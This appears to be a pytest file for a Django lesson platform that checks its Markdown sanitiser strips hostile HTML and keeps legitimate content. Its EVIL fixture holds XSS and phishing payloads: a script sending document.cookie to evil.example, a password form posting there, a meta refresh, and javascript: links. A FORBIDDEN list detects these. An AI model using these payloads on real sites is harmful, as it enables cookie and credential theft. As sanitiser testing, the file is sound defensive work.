"""Lesson Markdown is sanitised (nh3, an allow-list): raw HTML in prose, prompts and the
authoring preview cannot refresh, post, script or link to javascript:, while everything the
shipped lessons use (headings, code, tables, math for KaTeX, links, images) is unchanged."""

from __future__ import annotations

import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from django.conf import settings
from django.contrib.auth.models import Group, User
from django.test import Client

from accounts.models import INSTRUCTORS, STUDENTS
from courses.rendering import _markdown, render_markdown, render_prose

LESSONS = Path(settings.LESSONS_DIR)

EVIL = """\
# Title

<meta http-equiv="refresh" content="0;url=https://evil.example/phish">

<form action="https://evil.example/steal" method="post"><input name="password">
<button formaction="https://evil.example/x">Log in again</button></form>

<script>document.location = "https://evil.example/?" + document.cookie</script>

<img src="x" onerror="alert(1)"> <a href="javascript:alert(2)">a</a>
<a href="JaVaScRiPt:alert(3)">b</a> <a href="jav&#x61;script:alert(4)">c</a>
<a href="https://ok.example/" onclick="alert(5)" onmouseover="alert(6)">ok link</a>
[md link](javascript:alert(7)) <a href="data:text/html,<script>alert(8)</script>">d</a>

<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
<embed src="x.swf"><svg onload="alert(9)"><circle r="1"/></svg>
<style>body { display: none }</style><p style="position:fixed">styled</p>
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c.css">
<div data-role="submit" class="x">data attributes go</div><!-- a comment -->
"""
FORBIDDEN = [
    "<meta", "http-equiv", "<form", "<input", "<button", "formaction", "<script",
    "document.cookie", "onerror", "onclick", "onmouseover", "onload", "javascript:",
    "<iframe", "<object", "<embed", "<svg", "<style", "style=", "<base", "<link",
    "data:text", "data-role", "<!--",
]

LEGIT = r"""
## Shapes and $x^2$

Text with *emphasis*, **strong**, `code`, ~~no~~ and a [link](https://pytorch.org/docs)
and [a relative one](/lessons/tensors/) and <mailto:someone@example.org>.

![a picture](/static/img/plot.png "Plot")

$$
\frac{\partial L}{\partial w} = x^\top (y - \hat{y})
$$

| left | right |
|:-----|------:|
| 1    | 2     |

```python
import torch
x = torch.ones(2, 3) < 2
```

1. first
2. second

> quoted <kbd>Ctrl</kbd>-<kbd>Enter</kbd> H<sub>2</sub>O x<sup>2</sup>
"""


class Events(HTMLParser):
    """A page as a list of (start tag, sorted attributes) / (end tag) / text events."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        # rel="noopener noreferrer" is what the sanitiser adds to links: not a change.
        kept = sorted((k, v or "") for k, v in attrs if not (tag == "a" and k == "rel"))
        self.events.append(("start", tag, tuple(kept)))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            self.events[-1] = ("text", self.events[-1][1] + data)
        else:
            self.events.append(("text", data))


def events(html: str) -> list[tuple]:
    parser = Events()
    parser.feed(html)
    parser.close()
    return parser.events


def test_dangerous_markup_does_not_survive():
    html = render_markdown(EVIL)
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, needle
    # Text stays (as text), safe links stay with their href.
    assert '<a href="https://ok.example/" rel="noopener noreferrer">ok link</a>' in html
    assert "styled" in html and "data attributes go" in html


def test_prose_blocks_are_sanitised_too():
    blocks = render_prose(EVIL + "\n::: exercise tensor-cat\n\n## After\n\n"
                          '<p onclick="x()">more</p>\n')
    toc = [h for b in blocks for h in b.headings]
    kinds = [b.kind for b in blocks]
    assert kinds == ["html", "exercise", "html"]
    assert blocks[1].value == "tensor-cat"
    for block in blocks:
        for needle in FORBIDDEN:
            assert needle not in block.value.lower(), needle
    assert toc == [("after", "After")]


def test_what_lessons_use_is_kept():
    html = render_markdown(LEGIT)
    assert events(html) == events(_markdown(LEGIT))  # nothing legitimate removed
    for kept in ['<h2 id="shapes-and-x2">', '<span class="arithmatex">\\(x^2\\)</span>',
                 '<div class="arithmatex">\\[', '<div class="highlight"><pre>',
                 '<span class="kn">import</span>', '<th align="left">', '<td align="right">',
                 '<img alt="a picture" src="/static/img/plot.png" title="Plot">',
                 'href="https://pytorch.org/docs"', 'href="/lessons/tensors/"',
                 "<em>emphasis</em>", "<kbd>Ctrl</kbd>", "<sub>2</sub>", "<ol>", "<blockquote>",
                 "&lt;", "\\frac{\\partial L}{\\partial w}"]:
        assert kept in html, kept


def _shipped_texts() -> list[tuple[str, str]]:
    # A lesson's prose is en.md and zh-hans.md; other .md files there (DATA.md) are notes.
    texts = [(str(p.relative_to(LESSONS)), p.read_text()) for p in sorted(LESSONS.glob("*/*.md"))
             if p.name in ("en.md", "zh-hans.md")]
    for path in sorted(LESSONS.glob("*/exercises/*/exercise.yaml")):
        data = yaml.safe_load(path.read_text())
        name = str(path.relative_to(LESSONS))
        texts += [(f"{name} prompt {k}", v) for k, v in (data.get("prompt") or {}).items()]
        texts += [(f"{name} hint {k}", v) for h in data.get("hints") or [] for k, v in h.items()]
    return texts


def test_every_shipped_lesson_renders_exactly_as_before():
    texts = _shipped_texts()
    prose = [t for t in texts if t[0].endswith(".md")]
    assert len(prose) >= 8 and len(texts) > len(prose)
    math = code = 0
    for name, text in texts:
        assert events(render_markdown(text)) == events(_markdown(text)), name
    for name, text in prose:
        blocks = render_prose(text)
        toc = [h for b in blocks for h in b.headings]
        html = "".join(b.value for b in blocks if b.kind == "html")
        assert toc, name  # headings and their ids survive
        math += html.count('class="arithmatex"')
        code += html.count('<div class="highlight">')
        assert any(b.kind == "exercise" for b in blocks), name
    assert math > 0 and code > 0  # the lessons' math and code blocks are still there


@pytest.fixture
def evil_lesson(db, tmp_path):
    """The tensors lesson with hostile HTML in its prose and in an exercise prompt."""
    from courses.services import course_sync

    root = tmp_path / "lessons"
    shutil.copytree(LESSONS / "tensors", root / "tensors")
    for lang in ["en", "zh-hans"]:
        prose = root / "tensors" / f"{lang}.md"
        prose.write_text(prose.read_text() + "\n" + EVIL.split("\n", 1)[1])
    spec = root / "tensors" / "exercises" / "tensor-cat" / "exercise.yaml"
    data = yaml.safe_load(spec.read_text())
    data["prompt"] = {k: v + "\n\n" + EVIL.split("\n", 1)[1] for k, v in data["prompt"].items()}
    spec.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    return course_sync(root)


def test_the_lesson_page_carries_no_injected_markup(evil_lesson):
    user = User.objects.create_user("alice", password="alice-pass-123")
    user.groups.add(Group.objects.get_or_create(name=STUDENTS)[0])
    client = Client()
    client.force_login(user)
    html = client.get("/lessons/tensors/").content.decode()
    for needle in ["http-equiv", "evil.example", "document.cookie", "onerror=", "javascript:",
                   "<iframe", "formaction"]:
        assert needle not in html, needle
    assert html.count("ok link") == 2  # in the prose and in the prompt, as safe links


def test_the_authoring_preview_is_sanitised(db):
    from dashboard.access import default_course

    teacher = User.objects.create_user("teacher", password="teacher-pass-123")
    teacher.groups.add(Group.objects.get_or_create(name=INSTRUCTORS)[0])
    course = default_course()
    client = Client()
    client.force_login(teacher)
    response = client.post(f"/dashboard/{course.slug}/author/preview",
                           {"prompt_en": EVIL + "\n**bold**", "hint1_en": "<script>x</script>"})
    assert response.status_code == 200
    html = response.json()["html"]
    assert "<strong>bold</strong>" in html
    for needle in FORBIDDEN:
        assert needle not in html.lower(), needle
